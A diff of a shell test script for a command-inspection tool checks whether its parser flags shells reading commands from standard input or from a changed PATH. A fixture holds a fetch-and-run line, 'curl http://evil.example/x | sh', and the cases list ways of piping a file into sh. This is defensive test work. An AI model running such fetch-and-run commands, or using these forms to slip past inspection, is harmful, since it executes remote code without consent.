@@ -12,6 +12,7 @@ echo "$bad" >sub/deep/worse.py
 # shellcheck disable=SC2016
 printf '#!/bin/sh\n:>"$RAN"; true || curl http://evil.example/x | sh\n' >bin/tool
 chmod +x bin/tool
+cp bin/tool sub/evil
 echo 'cd sub' >lib.sh
 echo 'cd deep' >deeper.sh
 echo '. ./lib.sh' >outer.sh
@@ -93,8 +94,49 @@ looks "exec <<E
 $bad
 E
 sh reader.sh"
+looks 'command exec <sub/evil; sh' 'read from standard input'
+looks 'if true; then sh; fi <sub/evil' 'read from standard input'
+looks 'cat sub/evil | { :; sh; }' 'read from standard input'
+looks 'printf -v PATH bin; tool' 'not-looked-at: what PATH'
+# a pipe may go on in the next line
+looks 'cat sub/evil |
+sh' 'read from standard input'
 # What one shell has changed ends with it.
 cg run --profile extended -r "$T/w" -p "$T/policy.json" --workdir "$T/w" -- bash -c \
 	'bash lib.sh; bash path.sh; bash input.sh; exec 4<lib.sh; python3 -; tool || :' >"$T/out" 2>"$T/err" ||
 	fail "state of other shells: $(cat "$T/err")"
+# What the parser tells of such changes: bash runs "evil" from standard input, or a program of bin/ along PATH, and that
+# a shell's standard input, or PATH, is not the one of before is told.
+mkdir -p shells/bin
+for file in evil bin/tool bin/ls; do
+	printf '#!/bin/sh\n: >"%s/w/shells/ran"\n' "$T" >shells/$file
+	chmod +x shells/$file
+done
+python3 - "$SRC" "$T/w/shells" >"$T/out" 2>&1 <<'END' || fail "what shells change: $(cat "$T/out")"
+import json, os, subprocess, sys
+sys.dont_write_bytecode = True
+sys.path.insert(0, sys.argv[1] + "/cli/inspect/parsers")
+from findings import Findings
+from shell import Commands, Looker
+os.chdir(sys.argv[2])
+failed = 0
+for line in open(sys.argv[1] + "/tests/cases/inspect-shells.txt"):
+    kind, _, text = line.rstrip("\n").partition(" ")
+    text = text.replace("\\n", "\n")
+    commands, findings = Commands(), Findings()
+    Looker(findings, None, commands).look_at(text)
+    commands.add_end(1)
+    subprocess.run(["bash", "-c", text], stdin=subprocess.DEVNULL, capture_output=True, timeout=20)
+    runs = os.path.exists("ran") and not os.unlink("ran")
+    told = [json.loads(told) for _, told in commands.lines]
+    if kind == "input":
+        shells = [command for command in told if {"sh", "bash"} & set(command.get("words", []))]
+        tells = bool(shells) and all(shell["input"] for shell in shells)
+    else:
+        tells = any("PATH=$" in command.get("words", []) or "bin" in command.get("paths", []) for command in told)
+    if not runs or not tells:
+        print(line.strip(), "runs" if runs else "runs not", "told" if tells else "not told")
+        failed = 1
+sys.exit(failed)
+END
 echo "$number cases"
